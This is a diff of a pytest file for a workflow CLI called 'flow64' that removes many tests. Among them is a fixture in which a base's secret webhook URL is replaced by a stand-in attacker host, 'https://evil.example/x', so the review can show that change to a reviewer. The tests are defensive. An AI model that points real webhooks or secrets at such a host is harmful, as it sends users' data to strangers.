@@ -3,13 +3,10 @@
 from __future__ import annotations
 
 import json
-import re
 
 import pytest
 
-from flow64.cli import main
 from tests.cli.conftest import LEADS
-from tests.cli.pipelines import id_of
 
 pytestmark = pytest.mark.unmeasured
 
@@ -59,16 +56,6 @@ def test_formats(folders, flow64, form, start):
     assert (folders / "out").read_bytes() == printed.encode()
 
 
-def test_json(folders, flow64):
-    code, printed, _ = flow64("review", "--base", "base", "--head", "head", "--json")
-    data = json.loads(printed)
-
-    assert code == 0
-    assert [(one["key"], one["state"]) for one in data["workflows"]] == [
-        ("inbound", "update")
-    ]
-
-
 def test_exit_code(folders, flow64):
     """With `--exit-code`, changes exit with 2, and no changes with 0."""
     same = flow64("review", "--base", "base", "--head", "base", "--exit-code")
@@ -106,23 +93,6 @@ def test_faulty_head(folders, flow64):
     assert "new error in checks: " in printed
 
 
-@pytest.mark.parametrize(
-    "arguments",
-    [
-        ("--base", "base"),
-        ("--head", "head"),
-        ("--base", "base", "--head", "nowhere"),
-        ("base", "--base", "base", "--head", "head"),
-        ("--base", "base", "--head", "head", "--env", "default"),
-        ("--base", "base", "--head", "head", "--format", "pdf"),
-        (),
-    ],
-)
-def test_usage(folders, flow64, arguments):
-    """Contradicting options are a wrong command line."""
-    assert flow64("review", *arguments)[0] == 64
-
-
 def test_twice(folders, flow64):
     """Two of one name in a folder would hide one another."""
     for name in ("base", "head"):
@@ -137,13 +107,6 @@ def test_twice(folders, flow64):
     assert (code, "is there twice" in told) == (64, True)
 
 
-def test_unwritable(folders, flow64):
-    both = ("--base", "base", "--head", "head")
-    code, _, told = flow64("review", *both, "-o", "no/such/folder")
-
-    assert (code, "cannot be written" in told) == (1, True)
-
-
 def test_plan(service, leads, flow64):
     """For a source it shows what a deploy would do, with reads alone."""
     service.requests.clear()
@@ -154,30 +117,6 @@ def test_plan(service, leads, flow64):
     assert "- **what changes:** 1 workflow will be created (" in printed
     assert "in `leads.py`" in printed
     assert {request.method for request in service.requests} == {"GET"}
-
-
-def test_plan_of_json(service, leads, flow64):
-    """With --no-code the source is JSON, and nothing is imported."""
-    assert flow64("compile", "leads.py", "-o", "out")[0] == 0
-    code, printed, _ = flow64("review", "out", "--no-code")
-    assert (code, "what changes: 1 workflow will be created" in printed) == (0, True)
-
-    code, _, told = flow64("review", "leads.py", "--no-code")
-    assert (code, "is Python" in told) == (64, True)
-
-
-def test_plan_of_faulty_code(service, tmp_path, flow64):
-    """Workflows with errors have no plan, so there is nothing to review."""
-    (tmp_path / "bad.py").write_text(
-        LEADS.replace("Webhook(LEAD,", "Webhook(COMPANY,").replace(
-            "import LEAD", "import COMPANY, LEAD"
-        ),
-        "utf-8",
-    )
-    code, printed, told = flow64("review", "bad.py")
-
-    assert (code, printed) == (1, "")
-    assert "row-kind-mismatch" in told
 
 
 # -- Findings for GitHub ---------------------------------------------------------------
@@ -191,53 +130,6 @@ def test_annotations(leads, flow64):
     assert [line.split(" ")[0] for line in printed.splitlines()] == ["::notice"] * 2
     assert "::notice file=leads.py,line=" in printed
     assert told == "2 notes\n"
-
-
-def test_annotations_of_several(leads, flow64):
-    """Each of several says which workflow it is about."""
-    leads.write_text(leads.read_text("utf-8") + 'other = Workflow("Other", flow)\n')
-    _, printed, told = flow64("check", "leads.py", "--format", "github")
-
-    assert "::inbound: " in printed
-    assert "::other: " in printed
-    assert told.endswith("notes\n")
-
-
-@pytest.mark.parametrize("form", ["text", "json"])
-def test_other_formats(leads, flow64, form):
-    """The other formats are what they were."""
-    option = {"text": (), "json": ("--json",)}[form]
-
-    assert flow64("check", "leads.py", "--format", form) == (
-        flow64("check", "leads.py", *option)
-    )
-
-
-def test_one_format(leads, flow64):
-    """Two formats at once are a mistake."""
-    assert flow64("check", "leads.py", "--format", "github", "--json")[0] == 64
-    assert flow64("check", "leads.py", "--format", "json", "--json")[0] == 0
-
-
-def test_registered(capsys):
-    assert main(["review", "--help"]) == 0
-    assert "flow64 review --base" in capsys.readouterr().out
-
-
-def test_options_are_those_of_a_deploy(service, leads, flow64):
-    """The commands that a review names are whole, and take what they say."""
-    flow64("deploy", "leads.py", "--yes")
-    service.edit(id_of("leads.py"), name="By hand")
-
-    _, printed, _ = flow64("review", "leads.py", "--format", "markdown")
-    commands = re.findall("flow64 deploy .*", printed)
-
-    assert commands == [
-        "flow64 deploy leads.py --env default --force inbound",
-        "flow64 deploy leads.py --env default --skip-drifted",
-    ]
-    for command in commands:
-        assert flow64(*command.split()[1:], "--yes")[0] == 0
 
 
 def test_renamed_with_was(folders, flow64, tmp_path):
@@ -255,166 +147,4 @@ def test_renamed_with_was(folders, flow64, tmp_path):
     )
 
 
-def test_renamed_without_was(folders, flow64, tmp_path):
-    """Two folders ask the same question as a service, with the argument to write."""
-    text = LEADS.replace('key="inbound"', 'key="signups"')
-    (tmp_path / "renamed.py").write_text(text, "utf-8")
-    flow64("compile", "renamed.py", "-o", "renamed")
-
-    _, printed, _ = flow64("review", "--base", "base", "--head", "renamed")
-
-    assert (
-        "\n! inbound → signups: may be a rename, or a second workflow; this stops"
-        in printed
-    )
-    assert '        was="inbound"\n' in printed
-    assert "        flow64 deploy --create signups\n" in printed
-
-
-EVIL = "https://evil.example/x"
-
-
-@pytest.fixture
-def hooked(folders, flow64):
-    """A head in which a text stands for the secret of the base."""
-    flow = """OutgoingWebhook(url={url})
-flow = flow >> last
-"""
-    code = LEADS.replace("Project, Workflow", "Project, Workflow, value").replace(
-        "import LeadEnrichment", "import LeadEnrichment, OutgoingWebhook"
-    )
-    start, end = code.split("inbound = ")
-    for name, url in (("base", 'value("hook", secret=True)'), ("head", f'"{EVIL}"')):
-        text = f"{start}last = {flow.format(url=url)}inbound = {end}"
-        (folders / f"{name}.py").write_text(text, "utf-8")
-        assert flow64("compile", f"{name}.py", "-o", name)[0] == 0
-
-
-@pytest.mark.parametrize("more", [(), ("--manifest", "base/flow64.json")])
-@pytest.mark.parametrize("form", ["text", "markdown", "html", "json"])
-@pytest.mark.usefixtures("hooked")
-def test_text_in_place_of_a_secret(flow64, more, form):
-    """A reviewer sees the text that a stranger puts in the place of a secret."""
-    both = ("--base", "base", "--head", "head", "--format", form)
-    code, printed, _ = flow64("review", *both, *more)
-
-    assert code == 0
-    assert EVIL in printed
-    assert "posts to https://evil.example" in printed
-    assert "nothing differs" not in printed
-
-
-@pytest.mark.parametrize("more", [(), ("--json",)])
-@pytest.mark.usefixtures("hooked")
-def test_diff_of_a_text_in_place_of_a_secret(flow64, more):
-    """So it is where two sources are compared."""
-    code, printed, _ = flow64("diff", "base", "head", "--no-code", *more)
-
-    assert code == 0
-    assert EVIL in printed
-    assert "posts to https://evil.example" in printed or '"https://evil' in printed
-
-
 # -- The list of blocks ----------------------------------------------------------------
-
-SETTINGS = '[tool.flow64]\nblocks = "lists/blocks.json"\n'
-
-
-@pytest.fixture
-def listed(folders):
-    """Each of the folders in a project of its own, with a saved list of blocks."""
-    lists = {"base": ["find_phone", "yc_batches"], "head": ["find_phone", "score_lead"]}
-    for name, kinds in lists.items():
-        project = folders / f"of_{name}"
-        (project / "lists").mkdir(parents=True)
-        (folders / name).rename(project / "compiled")
-        (project / "pyproject.toml").write_text(SETTINGS, "utf-8")
-        schema = {"properties": {name: {"type": "string"}}, "required": [name]}
-        answer = [{"block_name": kind, "specs_schema": schema} for kind in kinds]
-        text = json.dumps({"date": "2026-11-28", "blocks": answer})
-        (project / "lists" / "blocks.json").write_text(text, "utf-8")
-    return ("--base", "of_base/compiled", "--head", "of_head/compiled")
-
-
-LISTED = """
-List of blocks: 1 new, 1 changed, 1 gone
-    new      score_lead
-               head: str · required
-    changed  find_phone
-               head: new: str · required
-               base: is gone
-    gone     yc_batches
-
-"""
-
-
-def test_changed_list_of_blocks(listed, flow64):
-    """A review of two revisions shows it, kind by kind."""
-    code, printed, told = flow64("review", *listed)
-
-    assert (code, told) == (0, "")
-    assert LISTED in printed
-    _, printed, _ = flow64("review", *listed, "--json")
-    assert [
-        (one["kind"], one["change"], len(one["fields"]))
-        for one in json.loads(printed)["listed_kinds"]
-    ] == [
-        ("score_lead", "new", 1),
-        ("find_phone", "changed", 2),
-        ("yc_batches", "gone", 0),
-    ]
-
-
-@pytest.mark.parametrize("form", ["markdown", "html"])
-def test_changed_list_of_blocks_in_a_page(listed, form, flow64):
-    """The line is shown, and the kinds below it with a click."""
-    _, printed, _ = flow64("review", *listed, "--format", form)
-
-    title, *lines = LISTED.strip().splitlines()
-    assert title in printed
-    body = printed.partition(title)[2]
-    assert "<summary>Kind by kind</summary>" in body
-    assert all(line.removeprefix("    ") in body for line in lines)
-
-
-def test_same_list_of_blocks(listed, flow64):
-    """The order and the date of a list mean nothing, and are not shown."""
-    base = "of_base/compiled"
-
-    _, printed, _ = flow64("review", "--base", base, "--head", base)
-
-    assert "list of blocks" not in printed.lower()
-
-
-@pytest.mark.parametrize(("side", "word"), [("base", "new"), ("head", "gone")])
-def test_list_of_blocks_on_one_side(listed, tmp_path, side, word, flow64):
-    """The kinds of a first list are named, without their fields."""
-    (tmp_path / f"of_{side}" / "lists" / "blocks.json").unlink()
-
-    _, printed, _ = flow64("review", *listed)
-
-    kinds = printed.partition(f"\nList of blocks: 2 {word}\n")[2]
-    assert [line.split()[0] for line in kinds.splitlines()[:2]] == [word, word]
-    assert kinds.splitlines()[2] == ""
-
-
-def test_damaged_list_of_blocks(listed, tmp_path, flow64):
-    """The review is made, and names what was not compared."""
-    (tmp_path / "of_base" / "lists" / "blocks.json").write_text("[", "utf-8")
-
-    code, printed, _ = flow64("review", *listed)
-
-    assert code == 0
-    assert "not checked" in printed
-    assert "    the list of blocks: " in printed
-
-
-def test_list_of_blocks_beside_an_untrusted_folder(listed, tmp_path, flow64):
-    """A folder that is not trusted names no other file to read."""
-    (tmp_path / "of_head" / "lists" / "blocks.json").write_text("[", "utf-8")
-    manifest = ("--manifest", "of_base/compiled/flow64.json", "--no-code")
-
-    code, printed, _ = flow64("review", *listed, *manifest)
-
-    assert code == 0
-    assert "list of blocks" not in printed.lower()
